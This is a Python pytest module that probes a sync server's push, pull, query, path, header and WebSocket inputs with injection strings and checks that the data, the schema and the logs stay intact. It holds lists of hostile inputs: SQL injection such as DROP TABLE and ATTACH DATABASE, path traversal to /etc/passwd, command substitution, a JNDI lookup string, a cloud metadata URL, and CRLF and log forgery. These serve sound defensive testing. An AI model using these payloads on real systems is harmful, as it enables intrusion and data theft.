"""SQL, paths, templates and forged log lines in every string that a caller may send; and what became of the data."""

from __future__ import annotations

import json
import secrets
import sqlite3
from collections.abc import AsyncIterator, Iterator, Mapping
from pathlib import Path
from typing import Any
from urllib.parse import quote

import msgpack
import pytest
import pytest_asyncio
from aiohttp import WSMsgType
from yarl import URL

from tests.support.attack import PULL, PUSH, Talk, Target, check_outcome, create, under_attack
from tests.support.bad_input import naughty_strings
from tests.support.raw_http import request_bytes, send_raw

pytestmark = pytest.mark.asyncio(loop_scope="module")

SQL = [
    "'; DROP TABLE resources; --",
    "' OR '1'='1",
    '" OR ""="',
    "') UNION SELECT name, sql FROM sqlite_master --",
    "1; DELETE FROM scopes WHERE 1=1",
    "x'; ATTACH DATABASE '/tmp/attached.db' AS attached; --",
    "x'; PRAGMA writable_schema=1; --",
    "' || zeroblob(1000000000) || '",
    "%' ESCAPE '%",
    "_%",
    "x' AND 1=randomblob(1000000000) --",
    "\\'; SELECT load_extension('evil'); --",
    "1e999",
    "NULL",
    "0x31",
    "?1",
    ":id",
    "$id",
    "@id",
]
OTHERS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "$(touch /tmp/touched)`touch /tmp/touched`",
    "${jndi:ldap://192.0.2.1/x}",
    "<script>alert(1)</script>",
    "a\r\nX-Forged: yes\r\n\r\nHTTP/1.1 200 OK",
    '{"event": "forged", "level": "info"}',
    '\n{"event": "forged", "level": "info"}\n',
    "\x1b]0;forged\x07\x1b[2J",
    "\u2028forged\u2029",
    "\u202eforged",
    "%s%s%s%n%x",
    "__proto__",
    "__class__.__init__.__globals__",
    "\x00",
    "a" * 5000,
]
STRINGS = [*SQL, *OTHERS]
PLANTED = {"text": "planted before all of it"}
FORBIDDEN = ("root:", "sqlite_master", "CREATE TABLE", "Traceback", 'File "', "sqlite3.")
"""What no answer may hold, unless it was sent."""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def target(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Target]:
    folder = tmp_path_factory.mktemp("strings")
    settings = {"SYNCD_LOG_LEVEL": "debug", "SYNCD_LOG_REQUESTS": "info"}
    async with under_attack(folder / "club.db", environment=settings) as target:
        await target.push("gardener", [create(1, "planted", "garden", fields=PLANTED)])
        before = schema_of(folder / "club.db")
        yield target
        assert await target.fields_of("garden") == {"planted": PLANTED}
        assert schema_of(folder / "club.db") == before
        assert_not_forged(target.process.log_text())
        assert not Path("/tmp/attached.db").exists()
        assert not Path("/tmp/touched").exists()


def schema_of(database: Path) -> list[tuple[str, str]]:
    connection = sqlite3.connect(f"file:{database}?mode=ro", uri=True)
    try:
        rows: list[tuple[str, str]] = connection.execute("SELECT name, sql FROM sqlite_master ORDER BY name").fetchall()
    finally:
        connection.close()
    return rows


def assert_not_forged(log: str) -> None:
    """Every line is one event of ours, and has nothing in it that a terminal would act on."""
    lines = [json.loads(line) for line in log.splitlines()]
    assert "request" in {line["event"] for line in lines}
    assert [line for line in lines if line["event"] == "forged" or "X-Forged" in line] == []
    assert [character for character in log if not character.isprintable() and character != "\n"] == []


def assert_tells_nothing(text: str, sent: str) -> None:
    assert [word for word in FORBIDDEN if word in text and word not in sent] == []


async def get(target: Target, path: str, headers: Mapping[str, str] | None = None) -> tuple[int, str]:
    """`path`: with its query, encoded already."""
    async with target.http.get(URL(f"{target.process.url}{path}", encoded=True), headers=headers) as response:
        text = "" if response.content_type == "text/event-stream" else await response.text()
        if response.status != 200:
            assert 400 <= response.status < 500, text
            problem = json.loads(text)
            assert all(problem[key] for key in ("code", "detail", "hint", "request_id"))
        return response.status, text


def changes_with(text: str) -> Iterator[dict[str, Any]]:
    good = create(1, "", "strings", fields={"v": 1})
    for key in ("scope", "type", "id", "op", "base", "stamp", "group", "conflict"):
        yield {**good, key: text}
    yield {**good, "fields": {text: 1}}
    yield {**good, "fields": {"v": {text: [text]}}}
    yield {**good, "op": "update", "was": {text: text}}
    yield {**good, "fields": {"v": {"update": text}}}
    yield {**good, text: text}


async def test_in_a_push_each_is_kept_or_refused_by_itself(target: Target) -> None:
    for text in STRINGS:
        for change in changes_with(text):
            replica = target.new_replica()
            for outcome in await target.push(replica, [{**change, "id": change["id"] or f"of-{replica}"}]):
                check_outcome(outcome)
                assert_tells_nothing(json.dumps(outcome), text)
    kept = [fields.get("v") for fields in (await target.fields_of("strings")).values()]
    assert [text for text in SQL if {text: [text]} not in kept] == []


BODIES: dict[str, list[Any]] = {
    PUSH: [{"replica": "HERE", "changes": []}, {"replica": "r", "schema": "HERE", "changes": []}],
    PULL: [
        {"scopes": {"HERE": None}},
        {"scopes": {"nobodys": "HERE"}},
        {"replica": "HERE", "scopes": {"nobodys": None}},
        {"scopes": {"nobodys": None}, "types": ["HERE"]},
    ],
    "/sync/v1/documents": [
        {"documents": [{"type": "note", "id": "planted", "field": "text", "since": 0, "seq": 0} | {key: "HERE"}]}
        for key in ("type", "id", "field", "state", "since")
    ],
    "/sync/v1/quarantine/replay": [{"items": [{"replica": "HERE", "n": 1}]}],
    "/sync/v1/quarantine/dismiss": [{"items": [{"replica": "HERE", "n": 1}]}],
    "/sync/v1/conflicts/settle": [
        {"settlements": [{"conflict": "HERE", "value": 1}]},
        {"settlements": [{"conflict": "c", "choice": "HERE"}]},
    ],
}


@pytest.mark.parametrize("path", list(BODIES))
async def test_in_every_other_body_each_is_answered(target: Target, path: str) -> None:
    for shape in BODIES[path]:
        for text in STRINGS:
            body = json.dumps(shape).replace('"HERE"', json.dumps(text)).encode()
            _, answer = await target.send(path, body)
            assert_tells_nothing(json.dumps(answer), text)


QUERIES = {
    "/sync/v1/history": ("type", "id", "field", "after", "limit"),
    "/sync/v1/explain": ("type", "id", "field"),
    "/sync/v1/undo": ("type", "id", "field", "version", "change"),
    "/sync/v1/document": ("type", "id", "field", "version"),
    "/sync/v1/quarantine": ("replica", "scope", "type", "after", "limit"),
    "/sync/v1/conflicts": ("scope", "type", "id", "status", "after", "limit"),
    "/sync/v1/stream": ("scope", "cursor", "type", "documents", "token"),
}
GIVEN = {"type": "note", "id": "planted", "field": "text", "version": "1", "scope": "garden"}


@pytest.mark.parametrize("path", list(QUERIES))
async def test_in_every_part_of_a_query_each_is_answered(target: Target, path: str) -> None:
    for key in (*QUERIES[path], "unknown"):
        for text in STRINGS:
            parts = {name: GIVEN[name] for name in QUERIES[path] if name in GIVEN} | {key: text}
            query = "&".join(f"{name}={quote(value, safe='')}" for name, value in parts.items())
            _, answer = await get(target, f"{path}?{query}")
            assert_tells_nothing(answer, text)


@pytest.mark.parametrize("path", ["/HERE", "/sync/v1/HERE", "/sync/v1/conflicts/HERE", "/health/HERE"])
async def test_in_a_path_each_leads_nowhere(target: Target, path: str) -> None:
    for text in STRINGS:
        status, answer = await get(target, path.replace("HERE", quote(text, safe="")))
        assert status in (400, 404)
        assert_tells_nothing(answer, text)


HEADERS = (
    "Authorization",
    "Cookie",
    "Content-Type",
    "Content-Encoding",
    "Accept",
    "Accept-Encoding",
    "If-Match",
    "Last-Event-ID",
    "Origin",
    "Referer",
    "User-Agent",
    "X-Forwarded-For",
    "X-Forwarded-Proto",
    "Forwarded",
    "X-Request-ID",
    "X-HTTP-Method-Override",
    "Upgrade",
)


@pytest.mark.parametrize("name", HEADERS)
async def test_in_a_header_each_is_answered_and_makes_no_header_of_its_own(target: Target, name: str) -> None:
    body = b'{"replica": "headers", "changes": []}'
    for text in [*STRINGS, *naughty_strings()]:
        value = text.encode().replace(b"\r\n", b" ").replace(b"\n", b" ").replace(b"\r", b" ")
        line = b"\r\n%b: %b" % (name.encode(), value)
        data = request_bytes(
            body, headers=["Content-Type: application/json"] if name != "Content-Type" else ["Content-Type: HERE"]
        )
        if name == "Content-Type":
            data = data.replace(b"HERE", value)
        else:
            data = data.replace(b"\r\nConnection: close", line + b"\r\nConnection: close", 1)
        answer = await send_raw(target.process.host_and_port, data)
        assert answer.status == 200 or 400 <= answer.status < 500, (text, answer)
        if answer.status != 200:
            assert answer.problem
        assert "\r\nX-Forged" not in answer.head
        assert_tells_nothing(answer.body.decode(), text)


@pytest.mark.parametrize(
    "path",
    [
        "/../../../../etc/passwd",
        "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/..%2f..%2f..%2fetc%2fpasswd",
        "/..%252f..%252fetc%252fpasswd",
        "/..%c0%af..%c0%afetc/passwd",
        "/....//....//etc/passwd",
        "//etc/passwd",
        "/etc/passwd%00.json",
        "/\\..\\..\\etc\\passwd",
        "/sync/v1/conflicts/..%2f..%2f..%2fetc%2fpasswd",
        "/sync/v1/conflicts/%2e%2e%2f%2e%2e%2fclub.db",
        "/sync/v1/../../club.db",
        "/club.db",
        "/.env",
        "/.git/config",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "/sync/v1/push;a=b/../../club.db",
        "/" + "a/" * 2000,
        "/?" + "a=b&" * 1900,
    ],
)
async def test_no_path_leads_out_of_the_urls_that_there_are(target: Target, path: str) -> None:
    data = request_bytes(b"", "HERE", "GET").replace(b"HERE", path.encode())
    answer = await send_raw(target.process.host_and_port, data)
    assert answer.status in (200, 400, 403, 404, 421), answer
    if answer.status == 200:
        assert json.loads(answer.body)["syncd"]
    else:
        assert answer.problem
    assert b"root:" not in answer.body
    assert b"SQLite format" not in answer.body


@pytest.mark.parametrize(
    "data",
    [
        b"GET /sync/v1/stream?token=SECRET" + b"a" * 10_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer SECRET" + b"a" * 10_000 + b"\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer SECRET\x00\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nBearer SECRET\r\n\r\n",
        b"GET sync/v1/stream?token=SECRET HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"GET nobody:?token=SECRET HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"GET /sync/v1/stream?token=SECRET HTTP/9.9\r\nHost: 127.0.0.1\r\n\r\n",
        b"G\xc3T /sync/v1/stream?token=SECRET HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    ],
    ids=lambda data: repr(data[:60]),
)
async def test_a_token_in_what_cannot_be_read_is_in_no_log_and_no_answer(target: Target, data: bytes) -> None:
    secret = f"tok-{secrets.token_hex(8)}"
    before = target.process.log_text().count("malformed_http")
    answer = await send_raw(target.process.host_and_port, data.replace(b"SECRET", secret.encode()))
    assert (answer.status, answer.problem["code"]) == (400, "malformed_http")
    assert secret not in answer.body.decode()
    log = target.process.log_text()
    assert log.count("malformed_http") > before
    assert secret not in log


@pytest.mark.parametrize("kind", [WSMsgType.TEXT, WSMsgType.BINARY])
async def test_in_every_part_of_a_frame_each_is_answered(target: Target, kind: WSMsgType) -> None:
    shapes: list[Any] = [
        {"type": "HERE"},
        {"type": "hello", "token": "HERE"},
        {"type": "hello", "replica": "HERE"},
        {"type": "subscribe", "scopes": {"HERE": None}},
        {"type": "subscribe", "scopes": {"garden": "HERE"}},
        {"type": "subscribe", "scopes": {"garden": None}, "types": ["HERE"]},
        {"type": "unsubscribe", "scopes": ["HERE"]},
        {"type": "presence", "scope": "HERE", "state": {}},
    ]
    async with Talk(target) as talk:
        for text in STRINGS:
            for shape in shapes:
                value = json.loads(json.dumps(shape).replace('"HERE"', json.dumps(text)))
                data = json.dumps(value).encode() if kind is WSMsgType.TEXT else msgpack.packb(value)
                answer = await talk.ask(data, kind)
                assert_tells_nothing(json.dumps(answer), text)
